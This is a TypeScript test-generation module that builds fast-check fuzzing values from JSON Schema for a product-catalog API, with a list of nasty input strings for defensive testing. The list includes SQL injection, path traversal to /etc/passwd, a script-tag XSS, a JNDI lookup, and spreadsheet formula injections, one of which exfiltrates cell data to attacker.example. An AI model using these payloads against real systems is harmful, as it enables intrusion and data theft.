/**
 * fast-check arbitraries from JSON Schema: values the schema accepts (biased towards its bounds
 * and towards data that exists, by field name) and values it refuses.
 */
import fc from 'fast-check';
import type { JsonSchema } from './openapi.js';
import {
  BigText,
  Deep,
  PoolRef,
  PoolSlice,
  RawJson,
  Repeat,
  UniqueList,
  type PoolName,
} from './values.js';

/**
 * Field names whose values should often be real data, so that valid requests reach real rows.
 * Keyed by name rather than by endpoint: a new endpoint with a `category_id` gets real ids too.
 */
const HINTS: Record<string, PoolName[]> = {
  product_id: ['handle'],
  product_ids: ['handle'],
  handle: ['handle'],
  // Categories' ids, change sets' (POST /api/changes/{id}/undo), jobs' and webhooks'.
  id: ['categoryId', 'unusedCategoryId', 'changeSetId', 'jobId', 'webhookId'],
  url: ['webhookUrl'],
  kinds: ['changeKind'],
  category_id: ['categoryId'],
  category_ids: ['categoryId'],
  parent_id: ['categoryId'],
  into_id: ['categoryId'],
  name: ['categoryName'],
  search: ['productName', 'handle', 'categoryName', 'vendor'],
  vendor: ['vendor'],
  cursor: ['cursor'],
};

export const SQL = "'; drop table products; --";

/** Strings that have broken systems before; each is valid JSON text. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '  padded  ',
  '0',
  '-1',
  '1.5',
  '1e20',
  'NaN',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  SQL,
  "' OR '1'='1",
  '1; select pg_sleep(5)',
  '%',
  '_',
  '%_%',
  '\\',
  '../../etc/passwd',
  '..',
  '%00',
  '%2e%2e',
  '/',
  '?',
  '#',
  '&',
  '=',
  '+',
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'bostik-ultraset®-sf',
  'megaflex™-puddle-flange',
  'schlüter-kerdi-200',
  '日本語のカテゴリ',
  '🙂👍🏽',
  'e\u0301',
  '\u202eevil',
  'a\u0000b',
  '\u0000',
  '\t',
  'line\nbreak',
  '\r\n',
  '\u2028',
  '\uFEFFbom',
  '\u00a0',
  '\uD800',
  'Trade Tools',
  ' trade  TOOLS ',
  'Angles & Trims',
  'Sealants & Co.',
  // Spreadsheet formulas (issue 9, M1): exports must neutralise them.
  '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

export const poolRef = (...pools: PoolName[]): fc.Arbitrary<PoolRef> =>
  fc
    .tuple(fc.constantFrom(...pools), fc.nat({ max: 100_000 }))
    .map(([pool, index]) => new PoolRef(pool, index));

export function hintFor(field: string | undefined): PoolName[] | undefined {
  return field === undefined ? undefined : HINTS[field];
}

const codePoints = (text: string) => [...text].length;

function typesOf(schema: JsonSchema): string[] {
  if (Array.isArray(schema.type)) return schema.type;
  if (schema.type) return [schema.type];
  return [];
}

/** True when the schema says nothing about the value (Type.Unknown). */
export function isOpaque(schema: JsonSchema): boolean {
  return (
    typesOf(schema).length === 0 &&
    !schema.properties &&
    !schema.anyOf &&
    !schema.oneOf &&
    !schema.allOf &&
    schema.enum === undefined &&
    schema.const === undefined
  );
}

function integerBounds(schema: JsonSchema): { min: number; max: number } {
  const min = schema.minimum ?? (schema.exclusiveMinimum ?? -2_147_483_649) + 1;
  const max = schema.maximum ?? (schema.exclusiveMaximum ?? 2_147_483_648) - 1;
  return { min, max };
}

function validString(schema: JsonSchema, field: string | undefined): fc.Arbitrary<unknown> {
  if (schema.format === 'date-time') {
    return fc
      .date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
      .map((date) => date.toISOString());
  }
  const minLength = schema.minLength ?? 0;
  const maxLength = schema.maxLength ?? 2000;
  const pattern = schema.pattern ? new RegExp(schema.pattern) : undefined;
  const typical = Math.min(maxLength, 60);
  const candidates: fc.Arbitrary<string>[] = [
    fc.string({ unit: 'grapheme', minLength, maxLength: typical }),
    fc.string({ unit: 'grapheme-ascii', minLength, maxLength: typical }),
    fc.string({ unit: 'binary', minLength, maxLength: typical }),
    fc.lorem({ maxCount: 4 }),
    fc.constantFrom(...NASTY_STRINGS),
  ];
  if (pattern) {
    try {
      candidates.push(fc.stringMatching(pattern, { size: 'small' }));
    } catch {
      // A pattern fast-check cannot read: the filter below still keeps only matches.
    }
  }
  const fits = (text: string) =>
    codePoints(text) >= minLength &&
    codePoints(text) <= maxLength &&
    (!pattern || pattern.test(text));
  const plain = fc.oneof(...candidates).filter(fits);
  // Exactly at the length limit, in one- and two-byte characters.
  const boundary = fc
    .constantFrom('x', 'é', '日')
    .map((unit) => unit.repeat(Math.max(minLength, Math.min(maxLength, 5000))));
  const hints = hintFor(field);
  return fc.oneof(
    { weight: 6, arbitrary: plain },
    { weight: 1, arbitrary: boundary },
    ...(hints ? [{ weight: 12, arbitrary: poolRef(...hints) }] : []),
  );
}

function validInteger(schema: JsonSchema, field: string | undefined): fc.Arbitrary<unknown> {
  const { min, max } = integerBounds(schema);
  const hints = hintFor(field);
  return fc.oneof(
    { weight: 4, arbitrary: fc.integer({ min, max }) },
    { weight: 1, arbitrary: fc.constantFrom(min, max) },
    { weight: 2, arbitrary: fc.integer({ min, max: Math.min(max, min + 1000) }) },
    ...(hints ? [{ weight: 14, arbitrary: poolRef(...hints) }] : []),
  );
}

/** A value the schema accepts (often real data, by field name). */
export function validValue(schema: JsonSchema, field?: string, depth = 0): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches) return fc.oneof(...branches.map((branch) => validValue(branch, field, depth)));
  if (schema.allOf) {
    return validValue(Object.assign({}, ...schema.allOf) as JsonSchema, field, depth);
  }
  const types = typesOf(schema);
  if (types.length > 1) {
    return fc.oneof(...types.map((type) => validValue({ ...schema, type }, field, depth)));
  }
  switch (types[0]) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return validInteger(schema, field);
    case 'number':
      return fc.double({
        min: schema.minimum ?? -1e12,
        max: schema.maximum ?? 1e12,
        noNaN: true,
        noDefaultInfinity: true,
      });
    case 'string':
      return validString(schema, field);
    case 'array': {
      const minLength = schema.minItems ?? 0;
      const maxLength = Math.min(schema.maxItems ?? 10, minLength + 12);
      const hints = hintFor(field);
      // Items of a hinted list (`category_ids`) are often all real, so the request gets through.
      const items = hints
        ? fc.oneof(
            { weight: 1, arbitrary: validValue(schema.items ?? {}, field, depth + 1) },
            { weight: 2, arbitrary: poolRef(...hints) },
          )
        : validValue(schema.items ?? {}, field, depth + 1);
      const list = (arbitrary: fc.Arbitrary<unknown>) =>
        schema.uniqueItems
          ? fc
              .uniqueArray(arbitrary, {
                minLength,
                maxLength,
                selector: (item) => fc.stringify(item),
              })
              .map((values) => new UniqueList(values))
          : fc.array(arbitrary, { minLength, maxLength });
      if (!hints) return list(items);
      const short = Math.min(maxLength, minLength + 3);
      const allReal = schema.uniqueItems
        ? fc
            .uniqueArray(poolRef(...hints), {
              minLength,
              maxLength: short,
              selector: (item) => fc.stringify(item),
            })
            .map((values) => new UniqueList(values))
        : fc.array(poolRef(...hints), { minLength, maxLength: short });
      // Now and then as many real rows as the schema takes (a bulk request over the catalog).
      const many = fc
        .tuple(
          fc.constantFrom(...hints),
          fc.nat(),
          fc.integer({ min: Math.max(1, minLength), max: Math.min(schema.maxItems ?? 50, 2000) }),
        )
        .map(([pool, start, count]) => new PoolSlice(pool, start, count));
      return fc.oneof(
        { weight: 3, arbitrary: list(items) },
        { weight: 6, arbitrary: allReal },
        { weight: 1, arbitrary: many },
      );
    }
    case 'object': {
      const properties = schema.properties ?? {};
      const record = fc.record(
        Object.fromEntries(
          Object.entries(properties).map(([key, property]) => [
            key,
            validValue(property, key, depth + 1),
          ]),
        ),
        { requiredKeys: (schema.required ?? []).filter((key) => key in properties) },
      );
      if (typeof schema.additionalProperties !== 'object' || depth > 3) return record;
      const extra = fc.dictionary(
        fc.string({ minLength: 1, maxLength: 12 }),
        validValue(schema.additionalProperties, undefined, depth + 1),
        { maxKeys: 3 },
      );
      return fc.tuple(record, extra).map(([known, more]) => ({ ...more, ...known }));
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Values of every JSON type, for "wrong type" mutations. */
const ANY_TYPE = fc.constantFrom<unknown>(
  null,
  true,
  false,
  0,
  -1,
  1.5,
  '1',
  'text',
  '',
  [],
  [1],
  ['a'],
  {},
  { id: 1 },
  new RawJson('1e400'),
  new RawJson('-0'),
  new RawJson('1E2'),
  new RawJson('12345678901234567890123'),
);

/** A value the schema refuses (mostly: a wrong type can happen to be a valid one). */
export function invalidValue(
  schema: JsonSchema,
  limits: { bodyLimitBytes: number },
): fc.Arbitrary<unknown> {
  const options: fc.Arbitrary<unknown>[] = [ANY_TYPE];
  const types = typesOf(schema);
  if (schema.enum || schema.const !== undefined) {
    const known = (schema.enum ?? [schema.const]).filter((value) => typeof value === 'string');
    options.push(
      fc.constantFrom('unknown', 'ACTIVE', ' active', 'Active', 'product_name ', '-'),
      ...(known.length > 0
        ? [fc.mixedCase(fc.constantFrom(...(known as string[]))).filter((v) => !known.includes(v))]
        : []),
    );
  }
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches) options.push(...branches.map((branch) => invalidValue(branch, limits)));
  if (types.includes('integer') || types.includes('number')) {
    const { min, max } = integerBounds(schema);
    options.push(
      fc.constantFrom(min - 1, max + 1, min - 1000, max * 2 + 1, Number.MAX_SAFE_INTEGER + 2),
      fc.constantFrom(
        new RawJson('1e400'),
        new RawJson('-1e400'),
        new RawJson(String(max) + '0'.repeat(30)),
      ),
    );
    if (types.includes('integer')) options.push(fc.constantFrom(min + 0.5, 1.000001, 1e-7));
  }
  if (types.includes('string')) {
    const maxLength = schema.maxLength ?? 10_000;
    options.push(
      fc
        .tuple(
          fc.constantFrom('x', 'é', '🙂'),
          fc.constantFrom(maxLength + 1, maxLength * 2, 10_000, 60_000),
        )
        .map(([unit, length]) => new BigText(unit, length)),
    );
    if ((schema.minLength ?? 0) > 0) options.push(fc.constant(''));
    if (schema.pattern) options.push(fc.constantFrom('a\u0000b', '\u0000'));
  }
  if (types.includes('array')) {
    const item = validValue(schema.items ?? {}, undefined);
    options.push(
      fc.constant([]),
      fc.tuple(item, invalidValue(schema.items ?? {}, limits)).map(([good, bad]) => [good, bad]),
      item.map((value) => [value, value]),
      fc
        .tuple(
          item,
          fc.constantFrom(
            (schema.maxItems ?? 10) + 1,
            1000,
            Math.floor(limits.bodyLimitBytes / 12),
            limits.bodyLimitBytes,
          ),
          fc.boolean(),
        )
        .map(([value, count, distinct]) => new Repeat(value, count, distinct)),
      fc.constantFrom(new Deep(200, 'array'), new Deep(5000, 'array')),
    );
  }
  if (types.includes('object')) {
    options.push(
      fc.constantFrom(new Deep(100, 'object'), new Deep(3000, 'object'), [], 'object'),
      objectMutation(schema, limits),
    );
  }
  return fc.oneof(...options);
}

/** A valid object with one thing wrong: a field missing, mistyped, extra, or absurdly nested. */
export function objectMutation(
  schema: JsonSchema,
  limits: { bodyLimitBytes: number },
): fc.Arbitrary<unknown> {
  const properties = Object.entries(schema.properties ?? {});
  const base = validValue(schema) as fc.Arbitrary<Record<string, unknown>>;
  const mutations: fc.Arbitrary<unknown>[] = [
    // An unknown field (including prototype-pollution names).
    fc
      .tuple(
        base,
        fc.oneof(
          fc.string({ minLength: 1, maxLength: 20 }),
          fc.constantFrom('__proto__', 'constructor', 'prototype', 'id', 'ID', ''),
        ),
        fc.jsonValue({ maxDepth: 2 }),
      )
      .map(([value, key, extra]) => {
        const copy: Record<string, unknown> = { ...value };
        Object.defineProperty(copy, key, { value: extra, enumerable: true, writable: true });
        return copy;
      }),
  ];
  if (properties.length > 0) {
    const propertyArb = fc.constantFrom(...properties);
    mutations.push(
      // A field missing.
      fc.tuple(base, propertyArb).map(([value, [key]]) => {
        const copy = { ...value };
        delete copy[key];
        return copy;
      }),
      // A field with a bad value.
      fc
        .tuple(base, propertyArb)
        .chain(([value, [key, property]]) =>
          invalidValue(property, limits).map((bad) => ({ ...value, [key]: bad })),
        ),
      // A field null.
      fc.tuple(base, propertyArb).map(([value, [key]]) => ({ ...value, [key]: null })),
      // A field deeply nested.
      fc
        .tuple(base, propertyArb, fc.constantFrom(50, 1000, 20_000))
        .map(([value, [key], depth]) => ({ ...value, [key]: new Deep(depth, 'array') })),
    );
  }
  return fc.oneof(...mutations);
}
